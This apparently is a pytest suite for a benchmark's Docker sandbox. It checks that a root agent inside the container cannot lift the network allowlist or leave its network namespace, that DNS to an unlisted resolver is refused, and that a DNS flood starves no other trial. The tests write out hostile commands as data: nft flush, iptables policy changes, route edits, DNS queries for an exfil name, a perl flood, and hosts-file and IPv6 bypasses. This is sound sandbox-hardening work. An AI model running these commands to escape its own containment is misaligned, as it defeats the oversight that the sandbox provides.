"""Attacks on the network allowlist from inside a docker container: root in the container, with
the host's own ``nft``, ``iptables`` and ``ip`` at hand, tries to flush the rules, open the output
policy, add a route and take the interface down; every attempt fails (no CAP_NET_ADMIN) and the
allowlist still holds, as the harness sees it from outside. Also: DNS to a resolver of the
agent's choice never leaves. Through the real CLI (script agents in ``agents/``, root in an
image that ships the tools, ``tests/fixtures/harbor/net-tools``): ``lift_network_rules.sh``
(nft, iptables, ip route/addr) and ``escape_network_namespace.sh`` (unshare, nsenter, ip netns).

Needs a Docker engine on this machine, ``debian:bookworm-slim`` and root; skipped otherwise.
"""

from __future__ import annotations

import asyncio
import os
import shutil
import subprocess
import threading
import uuid
from pathlib import Path

import pytest
from docker_support import docker_skip_reason
from lbtest import FIXTURES, job_dir, lb, one_result

pytest.importorskip("docker", reason="the Docker SDK is missing: pip install 'lancebench[docker]'")

import docker_net_support as net_support  # noqa: E402
from docker_net_support import fetch, two_hosts  # noqa: E402

from lancebench.sandbox.base import Mount, SandboxSpec  # noqa: E402
from lancebench.sandbox.docker import DockerSandbox  # noqa: E402
from lancebench.sandbox.docker_network import TABLE, enforce_problem  # noqa: E402

_REASON = docker_skip_reason() or enforce_problem()
pytestmark = [pytest.mark.docker, pytest.mark.skipif(_REASON is not None, reason=_REASON or "")]
JOB = f"pytest-netattack-{uuid.uuid4().hex[:6]}"


@pytest.fixture(scope="module")
def hosts():
    with two_hosts(JOB) as both:
        yield both


def run_box(allow, body, **kw):
    return net_support.run_box(JOB, allow, body, **kw)


def host_tools(folder) -> str:
    """Copies of the host's ``nft``, ``iptables`` and ``ip`` with their libraries in ``folder``
    (host and image are both Debian 12), for an attacker inside the container."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "lib").mkdir(exist_ok=True)
    for tool in ("/usr/sbin/nft", "/usr/sbin/xtables-nft-multi", "/usr/bin/ip"):
        real = os.path.realpath(tool)
        subprocess.run(["cp", real, str(folder)], check=True)
        libs = subprocess.run(["ldd", real], capture_output=True, text=True, check=True).stdout
        for line in libs.splitlines():
            parts = line.split("=>")
            if len(parts) == 2 and parts[1].strip().startswith("/"):
                subprocess.run(["cp", "-n", parts[1].split()[0], str(folder / "lib")], check=True)
    os.chmod(folder, 0o755)
    return str(folder)


def test_root_in_the_container_cannot_lift_the_rules(hosts, tmp_path):
    a, b = hosts
    tools = host_tools(tmp_path / "tools")
    attack = ("export LD_LIBRARY_PATH=/t/lib; /t/nft flush ruleset; echo nft=$?; "
              "/t/xtables-nft-multi iptables -P OUTPUT ACCEPT; echo ipt=$?; "
              "/t/xtables-nft-multi iptables -F; echo iptf=$?; "
              f"/t/ip route replace {b.ip}/32 dev eth0; echo route=$?; "
              "/t/ip link set eth0 down; echo link=$?")

    async def body(box):
        res = await box.exec(attack, user="root")
        codes = dict(p.split("=") for p in res.stdout.split())
        assert set(codes) == {"nft", "ipt", "iptf", "route", "link"} and "0" not in codes.values(), res.output
        assert "Operation not permitted" in res.output
        assert (await fetch(box, b.ip, user="root")).exit_code != 0
        assert (await fetch(box, a.ip, user="root")).stdout.strip() == "server-a"
        netns = box.__dict__["_filter"].netns
        listed = subprocess.run(["nsenter", f"--net={netns}", "nft", "list", "table", "inet", TABLE],
                                capture_output=True, text=True)
        assert listed.returncode == 0 and a.ip in listed.stdout  # the table is whole
    run_box((a.ip,), body, mounts=(Mount(Path(tools), "/t", False),))


def test_dns_to_any_server_reaches_only_the_filter(hosts):
    """A query for an unlisted name sent to a resolver of the agent's choice (the other bridge
    host, port 53) is answered by the harness's filter, refused, and never leaves."""
    a, b = hosts
    received = []
    import socket
    import threading

    from docker_net_support import in_netns
    sock = in_netns(b.pid, lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
    in_netns(b.pid, lambda: sock.bind(("0.0.0.0", 53)))
    sock.settimeout(0.5)

    def listen():
        for _ in range(20):
            try:
                received.append(sock.recvfrom(4096))
            except OSError:
                pass
    listener = threading.Thread(target=listen)
    listener.start()
    # a DNS query for exfil.example by hand: id 0x1234, RD, one question, type A, class IN
    query = r"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x05exfil\x07example\x00\x00\x01\x00\x01"

    async def body(box):
        res = await box.exec(f"printf '{query}' > /tmp/q; exec 3<>/dev/udp/{b.ip}/53; cat /tmp/q >&3; "
                             "timeout 3 head -c 4 <&3 | od -An -tx1")
        return res
    try:
        res = run_box((a.ip,), body)
    finally:
        listener.join()
        sock.close()
    assert received == []  # nothing reached the agent's chosen resolver
    assert res.stdout.split()[:2] == ["12", "34"], res.output  # the filter answered the query itself...
    assert int(res.stdout.split()[3], 16) & 0x0F == 5  # ...with REFUSED


def _attack_through_the_cli(script: str, hosts, shared: Path, jobs: Path) -> str:
    """Run attacker ``script`` as the agent of the ``net-tools`` task (nft, iptables, ip and
    unshare installed; the agent allowed ``a`` only) through ``lancebench run --backend docker``;
    returns net.txt as the patch records it."""
    a, b = hosts
    task = shared / "net-tools"
    shutil.copytree(FIXTURES / "harbor" / "net-tools", task)
    toml = task / "task.toml"
    toml.write_text(toml.read_text().replace("allowed_hosts = []", f'allowed_hosts = ["{a.ip}"]'))
    with (task / "instruction.md").open("a") as f:
        f.write(f"\nALLOWED={a.ip}:8080\nBLOCKED={b.ip}:8080\n")
    lb("run", "-p", task, "-a", f"script:{Path(__file__).resolve().parent / 'agents' / script}", "-o", jobs,
       "--backend", "docker", check=True, timeout=900)
    r = one_result(jobs)
    assert r["status"] == "resolved", r  # the task itself was done: the attack ran to its end
    patch = (job_dir(jobs) / "trials" / r["trial_id"] / "patch.diff").read_text()
    return "\n".join(line[1:] for line in patch.splitlines() if line.startswith("+") and not line.startswith("+++"))


@pytest.mark.slow
def test_root_agent_cannot_lift_its_allowlist_through_the_cli(hosts, shared, jobs):
    net = _attack_through_the_cli("lift_network_rules.sh", hosts, shared, jobs)
    codes = dict(line.split("=", 1) for line in net.splitlines() if "=" in line and " " not in line)
    assert codes["uid"] == "0", net  # root in the container
    for step in ("nft", "nftdel", "iptpolicy", "iptinsert", "route", "addr"):
        assert codes[step] != "0", (step, net)
    assert "Operation not permitted" in net
    assert (codes["blocked"], codes["allowed"]) == ("refused", "reached"), net


@pytest.mark.slow
def test_root_agent_cannot_leave_its_network_namespace(hosts, shared, jobs):
    net = _attack_through_the_cli("escape_network_namespace.sh", hosts, shared, jobs)
    assert "uid=0" in net and "reached" not in net, net
    assert "blocked=refused" in net and "netns=0" not in net and "unshare=0" not in net, net


# a query for exfil.example (type A), id 0x1234, as perl's pack() and printf write it
_PERL_FLOOD = r"""perl -MSocket -e '
socket(my $s, PF_INET, SOCK_DGRAM, 0) or die;
my $q = pack("n6", 0x1234, 0x0100, 1, 0, 0, 0) . "\x05exfil\x07example\x00\x00\x01\x00\x01";
my $to = sockaddr_in(53, inet_aton("192.0.2.53"));
my ($n, $out) = (0, 0); my $end = time + SECONDS;
while (time < $end) { for (1..1000) { send($s, $q, 0, $to) and $out++; $n++ } }
print "sent=$n left=$out\n";'"""


def test_a_dns_flood_starves_neither_the_harness_nor_another_trial():
    """One agent floods the filtering resolver (UDP 53, redirected to the harness, about 50,000
    queries a second from perl in the minimal image) while another trial's container asks one
    query. Found by the attack pass after issue 14: every datagram was queued for the resolver's
    4 threads without bound (15,000 waiting after 10 s, 48 MB of the harness's memory, the
    other container's query unanswered for seconds). Then, with a bound on queries held, CI's
    busy machine still lost the other container's query: the flood filled the resolver's socket
    buffer and the kernel dropped what came after. Now the container's own rules let out at most
    DNS_RATE queries a second (perl's send fails for the rest), the resolver holds at most a few
    per container, and the other container is answered at once."""
    from lancebench.sandbox import dns_filter, docker_network

    query = r"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x05exfil\x07example\x00\x00\x01\x00\x01"
    ask = (f"printf '{query}' > /tmp/q; exec 3<>/dev/udp/192.0.2.53/53; cat /tmp/q >&3; "
           "timeout 2 head -c 4 <&3 | od -An -tx1")

    async def go():
        spec = {"image": "debian:bookworm-slim", "network": True, "allow_hosts": ("192.0.2.1",)}
        flooder = DockerSandbox(SandboxSpec(**spec, labels={"job": JOB, "trial": "flood"}))
        other = DockerSandbox(SandboxSpec(**spec, labels={"job": JOB, "trial": "other"}))
        await flooder.start()
        await other.start()
        try:
            flood = asyncio.ensure_future(flooder.exec(_PERL_FLOOD.replace("SECONDS", "8")))
            await asyncio.sleep(4)  # the flood is on
            answered = await other.exec(ask)
            backlog = sum(t.name.startswith("lancebench-dnsq-") for t in threading.enumerate())
            sent = await flood
            again = await flooder.exec(ask)  # the flooder itself is still answered afterwards
            return answered, backlog, sent, again
        finally:
            await flooder.stop()
            await other.stop()

    answered, backlog, sent, again = asyncio.run(go())
    counts = dict(word.split("=") for word in sent.stdout.split())
    assert int(counts["sent"]) > 50_000, sent.output  # the flood ran
    # what left the container: the burst, then the rate for the flood's 8 s (and 1 s of slack)
    assert int(counts["left"]) <= docker_network.DNS_BURST + 9 * docker_network.DNS_RATE, sent.output
    assert answered.stdout.split()[:2] == ["12", "34"], answered.output
    assert backlog <= 2 * dns_filter.WORKERS_PER_CONTAINER, backlog  # threads answering, both containers
    assert again.stdout.split()[:2] == ["12", "34"], again.output


def test_hosts_file_mapped_addresses_and_the_resolver_port_stay_closed(hosts):
    """Root in the container, allowed ``a`` only (attack pass after issue 14; held, kept as a
    regression test): maps a name to ``b`` in ``/etc/hosts``, reaches ``b`` by that name, by its
    IPv4-mapped IPv6 address, and by TCP on the filtering resolver's port of the gateway. Every
    attempt is refused (the rules are by address, for both families); ``a`` still answers."""
    a, b = hosts

    async def body(box):
        from lancebench.sandbox import dns_filter
        port = max(f.port for f in dns_filter.filters.values())
        gateway = (await box.exec("ip route 2>/dev/null | awk '/default/ {print $3}'; "
                                  "awk '$2 == \"00000000\" {print $3}' /proc/net/route", user="root")).stdout.split()
        mapped = await box.exec(f"echo '{b.ip} allowed.test' >> /etc/hosts && echo ok", user="root")
        by_name = await fetch(box, "allowed.test", user="root")
        by_v6 = await fetch(box, f"::ffff:{b.ip}", user="root")
        resolver_tcp = await box.exec(f"timeout 5 bash -c 'exec 3<>/dev/tcp/$0/{port}' "
                                      f"{_gateway_of(gateway)} && echo reached || echo refused")
        return mapped, by_name, by_v6, resolver_tcp, await fetch(box, a.ip, user="root")

    mapped, by_name, by_v6, resolver_tcp, allowed = run_box((a.ip,), body)
    assert mapped.stdout.strip() == "ok", mapped.output  # the hosts file was changed
    for attempt in (by_name, by_v6):  # each connect was tried and answered with a reset by the rules
        assert attempt.exit_code != 0 and "Connection refused" in attempt.output, attempt.output
    assert resolver_tcp.stdout.strip().endswith("refused"), resolver_tcp.output
    assert allowed.stdout.strip() == "server-a", allowed.output


def _gateway_of(words: list[str]) -> str:
    """The gateway from ``ip route`` (dotted) or ``/proc/net/route`` (little-endian hex)."""
    for word in words:
        if word.count(".") == 3:
            return word
    raw = bytes.fromhex(words[-1])
    return ".".join(str(x) for x in reversed(raw))
